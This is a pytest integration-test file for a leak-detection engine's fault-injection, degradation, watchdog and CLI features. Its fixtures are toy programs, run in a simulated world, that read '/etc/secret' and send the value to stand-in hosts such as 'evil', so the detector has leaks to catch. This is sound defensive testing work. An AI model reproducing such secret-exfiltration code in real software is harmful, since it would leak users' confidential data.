"""Integration tests: fault injection, self-healing, and degradation.

End-to-end coverage of the robustness subsystem: the retry layer masks
injected faults without changing causality verdicts, exhausted retries
degrade gracefully, the supervisor converts engine errors into
diagnosed results, and the chaos harness's invariants hold on a small
sweep.
"""

import pytest

from repro.core import FaultConfig, LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.core.engine import LdxEngine
from repro.core.supervisor import EngineWatchdog
from repro.errors import DegradedResult
from repro.eval.robustness import chaos_ok, run_chaos
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World

SECRET_SOURCE = SourceSpec(file_paths={"/etc/secret"})
NET_SINKS = SinkSpec.network_out()

CHATTY = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 10));
  close(fd);
  var total = 0;
  var i = 0;
  while (i < 10) {
    var f = open("/etc/scratch", "w");
    write(f, "round " + i);
    close(f);
    var g = open("/etc/scratch", "r");
    total = total + len(read(g, 100));
    close(g);
    i = i + 1;
  }
  var s = socket();
  connect(s, "sink.example", 80);
  send(s, x * 2 + total);
}
"""


def build(source):
    return instrument_module(compile_source(source))


def world_with_secret(value="7"):
    world = World(seed=1)
    world.fs.add_file("/etc/secret", value)
    world.network.register("sink.example", 80, lambda req: "ack")
    return world


def dual(source, config, **kwargs):
    return run_dual(build(source), world_with_secret(), config, **kwargs)


# -- fault masking end to end -------------------------------------------------


def test_faults_masked_coupling_preserved():
    """At the default (masking) config, a heavy fault schedule changes
    timing but neither outputs nor the coupling of the dual."""
    faults = FaultConfig(seed=5, rate=0.5)
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    degradation = result.degradation
    assert degradation.faults_injected, "rate 0.5 must inject on this workload"
    assert degradation.retries > 0
    assert degradation.faults_masked == len(degradation.faults_injected)
    assert degradation.verdict_confidence == "full"
    assert not degradation.degraded
    # The robustness invariant: unmutated dual stays fully coupled.
    assert not result.report.causality_detected
    assert result.report.syscall_diffs == 0
    assert result.report.tainted_resources == []
    assert result.master_stdout == result.slave_stdout
    result.raise_if_degraded()  # must not raise


def test_faults_do_not_mask_a_real_leak():
    faults = FaultConfig(seed=5, rate=0.5)
    result = dual(CHATTY, LdxConfig(SECRET_SOURCE, NET_SINKS), faults=faults)
    assert result.report.causality_detected
    assert result.degradation.verdict_confidence == "full"


def test_faults_charge_virtual_time():
    clean = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS))
    faulted = dual(
        CHATTY,
        LdxConfig(SourceSpec(), NET_SINKS),
        faults=FaultConfig(seed=5, rate=0.5),
    )
    assert faulted.dual_time > clean.dual_time
    # Timing is the only difference: outputs agree with the clean run.
    assert faulted.master_stdout == clean.master_stdout


def test_fault_free_run_has_empty_degradation():
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS))
    degradation = result.degradation
    assert degradation.faults_injected == []
    assert degradation.retries == 0
    assert degradation.watchdog_fires == 0
    assert not degradation.degraded
    assert degradation.verdict_confidence == "full"


def test_fault_schedules_are_deterministic():
    faults = FaultConfig(seed=13, rate=0.4)
    first = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    second = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    assert (
        first.degradation.faults_injected == second.degradation.faults_injected
    )
    assert first.dual_time == second.dual_time


# -- retry exhaustion and the degradation ladder ------------------------------


def test_exhausted_retries_degrade_gracefully():
    """With bursts longer than the retry budget, faults surface as
    errno-style failures; the run completes and says so."""
    faults = FaultConfig(seed=3, rate=0.8, burst_max=5, max_retries=1)
    assert not faults.masks_all_faults
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    degradation = result.degradation
    assert degradation.exhausted_syscalls
    assert degradation.verdict_confidence in ("degraded", "partial")
    assert degradation.degraded
    with pytest.raises(DegradedResult):
        result.raise_if_degraded()


def test_degradation_summary_mentions_confidence():
    faults = FaultConfig(seed=3, rate=0.8, burst_max=5, max_retries=1)
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    text = result.degradation.summary()
    assert "confidence=" in text
    assert "faults injected" in text


# -- the supervisor -----------------------------------------------------------


def test_supervisor_converts_engine_error_to_result():
    """An uncaught error inside the drive loop becomes a diagnosed,
    degraded DualResult — never a traceback."""
    engine = LdxEngine(
        build(CHATTY), world_with_secret(), LdxConfig(SourceSpec(), NET_SINKS)
    )

    def boom():
        raise RuntimeError("synthetic engine wreck")

    engine._drive = boom
    result = engine.run()
    assert result.degradation.engine_failures == [
        "RuntimeError: synthetic engine wreck"
    ]
    assert result.degradation.verdict_confidence == "partial"
    assert result.degradation.degraded
    with pytest.raises(DegradedResult):
        result.raise_if_degraded()


def test_supervisor_passes_clean_runs_through():
    engine = LdxEngine(
        build(CHATTY), world_with_secret(), LdxConfig(SECRET_SOURCE, NET_SINKS)
    )
    result = engine.run()
    assert result.degradation.engine_failures == []
    assert result.report.causality_detected


# -- the watchdog -------------------------------------------------------------


def test_watchdog_escalates_only_without_progress():
    watchdog = EngineWatchdog(escalation_limit=2)
    assert not watchdog.record_stall_break("master", 1)
    assert not watchdog.record_stall_break("master", 1)
    watchdog.note_progress(("tick", 1))  # progress resets the ladder
    assert not watchdog.record_stall_break("master", 1)
    assert not watchdog.record_stall_break("master", 1)
    assert watchdog.record_stall_break("master", 1)
    assert watchdog.fires == 1


def test_watchdog_counts_threads_independently():
    watchdog = EngineWatchdog(escalation_limit=1)
    assert not watchdog.record_stall_break("master", 1)
    assert not watchdog.record_stall_break("slave", 1)
    assert not watchdog.record_stall_break("master", 2)
    assert watchdog.record_stall_break("master", 1)


def test_watchdog_round_backstop():
    watchdog = EngineWatchdog(max_rounds=3)
    assert not watchdog.exhausted()
    for _ in range(4):
        watchdog.record_stall_break("master", 1)
        watchdog.note_progress(object())  # progress does not reset rounds
    assert watchdog.exhausted()


# -- the chaos harness --------------------------------------------------------


def test_small_chaos_sweep_holds_invariants():
    rows = run_chaos(seeds=2, rate=0.1)
    assert chaos_ok(rows), [v for row in rows for v in row.violations]
    assert sum(row.faults_injected for row in rows) > 0


# -- the CLI ------------------------------------------------------------------


@pytest.fixture
def leaky_program(tmp_path):
    path = tmp_path / "leaky.mc"
    path.write_text(
        """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  var s = socket();
  connect(s, "evil", 80);
  send(s, x * 3);
}
"""
    )
    return str(path)


LEAK_ARGS = [
    "--secret-file",
    "/etc/secret",
    "--file",
    "/etc/secret=7",
    "--endpoint",
    "evil:80=",
]


def test_cli_leak_with_faults(leaky_program, capsys):
    from repro.cli import main

    code = main(
        ["leak", leaky_program, *LEAK_ARGS, "--fault-rate", "0.4", "--fault-seed", "2"]
    )
    out = capsys.readouterr().out
    assert code == 1  # causality still detected under faults
    assert "CAUSALITY" in out
    assert "confidence=full" in out


def test_cli_leak_without_faults_prints_no_degradation(leaky_program, capsys):
    from repro.cli import main

    code = main(["leak", leaky_program, *LEAK_ARGS])
    out = capsys.readouterr().out
    assert code == 1
    assert "confidence=" not in out


def test_cli_chaos_subcommand(capsys):
    from repro.cli import main

    code = main(["chaos", "--seeds", "1", "--workload", "gzip"])
    captured = capsys.readouterr()
    assert code == 0
    assert "0 invariant violations" in captured.out
    assert "1 executed" in captured.err  # the sweep ran, not a stored row


def test_cli_engine_error_is_one_line_diagnosis(tmp_path, capsys):
    from repro.cli import main

    bad = tmp_path / "bad.mc"
    bad.write_text("fn main() { return undefined_variable; }\n")
    code = main(["run", str(bad)])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.startswith("repro: ")
    assert "\n" == captured.err[-1] and captured.err.count("\n") == 1
    assert "Traceback" not in captured.err
